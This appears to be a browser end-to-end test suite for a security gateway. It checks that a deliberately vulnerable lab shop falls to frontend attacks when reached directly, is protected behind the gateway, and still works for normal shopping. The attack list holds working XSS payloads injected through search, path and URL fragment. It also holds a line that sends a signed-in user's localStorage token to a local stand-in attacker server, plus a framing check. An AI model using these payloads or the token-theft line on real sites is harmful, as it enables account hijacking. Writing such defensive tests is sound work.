/**
 * The product's claim for the frontend items, in a real browser: what an attacker left behind runs on the bare lab and
 * does not behind the gateway, and the shop works in every user path at both doors.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchChromium, type TestBrowser } from "../support/chromium.ts";
import { type LabGateway, startLabGateway } from "../support/lab-gateway.ts";

const firstProduct = "d59d2a7e-fccb-5590-abf4-479b00126f73";

let stack: LabGateway;
let browser: TestBrowser;
let evil: Evil;

beforeAll(async () => {
  stack = await startLabGateway();
  browser = await launchChromium();
  evil = await startEvil();
});
afterAll(async () => {
  await browser.close();
  await evil.stop();
  await stack.stop();
});

type Door = "bare" | "gateway";
const doors = ["bare", "gateway"] as const;
const originOf = (door: Door) => (door === "bare" ? stack.lab.urls.storefront : (process.env["LAB_SITE"] ?? ""));

/** Another origin: it frames the shop, and takes whatever is sent to it. */
interface Evil {
  readonly origin: string;
  readonly received: string[];
  stop(): Promise<void>;
}

async function startEvil(): Promise<Evil> {
  const received: string[] = [];
  const server: Server = createServer((request, response) => {
    const url = new URL(request.url ?? "/", "http://evil.example");
    const target = url.searchParams.get("frame");
    if (target !== null) {
      response.writeHead(200, { "content-type": "text/html" });
      response.end(`<!doctype html><iframe src="${target}" width="800" height="600"></iframe>`);
      return;
    }
    if (url.pathname === "/steal") received.push(url.search);
    response.writeHead(204, { "access-control-allow-origin": "*" }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    stop: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** Runs `work` on a fresh page of a fresh profile at one of the doors. */
async function visit<Result>(door: Door, path: string, work: (page: Page) => Promise<Result>): Promise<Result> {
  const page = await browser.newPage();
  try {
    await page.goto(originOf(door) + path, { waitUntil: "load" });
    return await work(page);
  } finally {
    await page.context().close();
  }
}

/** Signs bob in as a person does: by the page's button and the provider's form. */
async function signIn(page: Page, door: Door): Promise<void> {
  await page.goto(`${originOf(door)}/login`);
  await page.click("#sign-in");
  await page.fill("#email", "bob@shop.example");
  await page.fill("#password", "bob-lab-password");
  await page.click("button[type=submit]");
  await page.waitForURL(`${originOf(door)}/account`);
  await page.waitForSelector("#sign-out");
}

const notice = (page: Page, text: RegExp) => page.locator("#notice", { hasText: text }).waitFor();
/** What hostile content of the lab sets when it runs. */
const ranScript = (page: Page) =>
  page.evaluate(() => (globalThis as { labStoredScriptRan?: string }).labStoredScriptRan);

describe.each(doors)("the shop at the door %s", (door) => {
  test("can be browsed, searched and read", async () => {
    await visit(door, "/", async (page) => {
      expect(await page.locator(".grid li").count()).toBe(20);
      expect(await page.evaluate(() => Number(document.documentElement.dataset["openedAt"]))).toBeGreaterThan(0);
      await page.locator(".grid a").first().click();
      await page.waitForSelector("#reviews article");
      expect(await page.locator("h1").textContent()).not.toBe("");
      await page.fill("input[name=q]", "oak lamp");
      await page.press("input[name=q]", "Enter");
      await page.waitForURL(/\/search\?q=oak/);
      expect(await page.locator("h1").textContent()).toBe("Results for oak lamp");
      await page.click('nav a[href="/articles"]');
      await page.locator("main li a").first().click();
      await page.waitForSelector("#article-body");
      const style = await page.evaluate(() => getComputedStyle(document.body).fontFamily);
      expect(style).not.toBe('"Times New Roman"');
    });
  });

  test("takes a sign-in, a profile, a review and an order", async () => {
    await visit(door, "/", async (page) => {
      await signIn(page, door);
      await page.waitForSelector("#orders li");
      await page.fill("#profile input[name=phone]", "+47 555 01");
      await page.click("#profile button");
      await notice(page, /Your profile is saved/);

      await page.goto(`${originOf(door)}/products/${firstProduct}`);
      await page.waitForSelector("#reviews article");
      await page.fill("#review textarea", `A sturdy one, seen at the door ${door}.`);
      await page.click("#review button");
      await notice(page, /Thank you for your review/);
      await page.locator("#reviews", { hasText: `seen at the door ${door}` }).waitFor();
      await page.fill("#order input[name=quantity]", "2");
      await page.click("#order button");
      await notice(page, /Order [0-9a-f-]{36} is placed/);
      await page.click("#sign-out");
      await page.waitForSelector('#session a[href="/login"]');
    });
  });
});

/** An attack that ends in a script of the attacker's, and how a visitor meets it. */
interface ScriptAttack {
  readonly control: string;
  readonly name: string;
  /** Visits and does what a visitor would do; gives back whether the attacker's script ran. */
  readonly runs: (door: Door) => Promise<boolean>;
}

const productWith = (index: number) =>
  stack.bare(`GET /api/products?limit=1&offset=${index}`).then(({ text }) => {
    const [product] = JSON.parse(text) as { id: string }[];
    return product?.id ?? "";
  });

const scriptAttacks: readonly ScriptAttack[] = [
  {
    control: "frontend-ugc",
    name: "Reviews are stored and shown as HTML",
    runs: async (door) =>
      visit(door, `/products/${await productWith(0)}`, async (page) => {
        await page.waitForSelector("#reviews article");
        await page.waitForTimeout(300);
        return (await ranScript(page)) === "review";
      }),
  },
  {
    control: "frontend-ugc",
    name: "Articles carry scripts into the page",
    runs: (door) =>
      visit(door, "/articles/summer-tables", async (page) => {
        await page.waitForTimeout(300);
        return (await ranScript(page)) !== undefined;
      }),
  },
  {
    control: "frontend-ugc",
    name: "A link of an article is a script",
    runs: (door) =>
      visit(door, "/articles/summer-tables", async (page) => {
        // What such a script evaluates to becomes the document.
        await page.locator("#article-body a").first().click({ timeout: 2000 });
        await page.waitForTimeout(300);
        return (await page.evaluate(() => document.body.textContent)) === "article-link";
      }),
  },
  {
    control: "frontend-xss",
    name: "The words of a search become part of the page",
    runs: (door) =>
      visit(
        door,
        `/search?q=${encodeURIComponent('<img src=x onerror="window.labStoredScriptRan=1">')}`,
        async (page) => {
          await page.waitForTimeout(300);
          return (await ranScript(page)) !== undefined;
        },
      ),
  },
  {
    control: "frontend-xss",
    name: "So does the path of a missing page",
    runs: (door) =>
      visit(door, `/${encodeURIComponent('<img src=x onerror="window.labStoredScriptRan=1">')}`, async (page) => {
        await page.waitForTimeout(300);
        return (await ranScript(page)) !== undefined;
      }),
  },
  {
    control: "frontend-xss",
    name: "So does what stands behind the `#` (open `/login#<img src=x onerror=alert(1)>`)",
    runs: (door) =>
      visit(door, `/login#${encodeURIComponent('<img src=x onerror="window.labStoredScriptRan=1">')}`, async (page) => {
        await page.locator("#notice img").waitFor({ state: "attached", timeout: 3000 });
        await page.waitForTimeout(300);
        return (await ranScript(page)) !== undefined;
      }),
  },
  {
    control: "frontend-csp",
    name: "No policy, and an inline script in each page",
    runs: (door) =>
      visit(door, "/", (page) =>
        page.evaluate(async () => {
          const injected = "<img src=x onerror=\"window.labStoredScriptRan = 'injected'\">";
          document.body.insertAdjacentHTML("beforeend", injected);
          await new Promise((resolve) => setTimeout(resolve, 300));
          return (globalThis as { labStoredScriptRan?: string }).labStoredScriptRan === "injected";
        }),
      ),
  },
  {
    control: "frontend-bundle-secrets",
    name: "Tokens in localStorage, where every script finds them",
    runs: (door) =>
      visit(door, "/", async (page) => {
        await signIn(page, door);
        evil.received.length = 0;
        const theft = `fetch('${evil.origin}/steal?'+localStorage.accessToken.slice(0,9),{mode:'no-cors'})`;
        await page.goto(`${originOf(door)}/login#${encodeURIComponent(`<img src=x onerror="${theft}">`)}`);
        await page.reload();
        await page.waitForTimeout(500);
        return evil.received.some((query) => query.includes("eyJ"));
      }),
  },
  {
    control: "frontend-headers",
    name: "The shop in a frame of another site",
    runs: (door) =>
      visit(door, "/", async (page) => {
        await page.goto(`${evil.origin}/?frame=${encodeURIComponent(`${originOf(door)}/`)}`);
        await page.waitForTimeout(500);
        const frame = page.frames()[1];
        return frame !== undefined && (await frame.locator("header .brand").count()) === 1;
      }),
  },
];

describe("what runs in a visitor's browser", () => {
  test.each(scriptAttacks)("$control: $name: works on the bare lab, not behind the gateway", async ({ runs }) => {
    expect(await runs("bare")).toBe(true);
    expect(await runs("gateway")).toBe(false);
  });

  test("what the policy forbids arrives as an event", async () => {
    await visit("gateway", `/login#${encodeURIComponent("<img src=x onerror=alert(1)>")}`, async (page) => {
      await page.locator("#notice img").waitFor({ state: "attached" });
    });
    await expect.poll(() => countOf("csp.violated"), { timeout: 10_000 }).toBeGreaterThan(0);
  });
});

/** How often the gateway counted an event of that name. */
async function countOf(event: string): Promise<number> {
  const metrics = await fetch(`http://127.0.0.1:${stack.gateway.adminPort}/metrics`, {
    headers: { authorization: `Bearer ${stack.gateway.generatedAdminToken}` },
  });
  const lines = (await metrics.text()).split("\n").filter((line) => line.includes(`event="${event}"`));
  return lines.reduce((sum, line) => sum + Number(line.split(" ").at(-1)), 0);
}
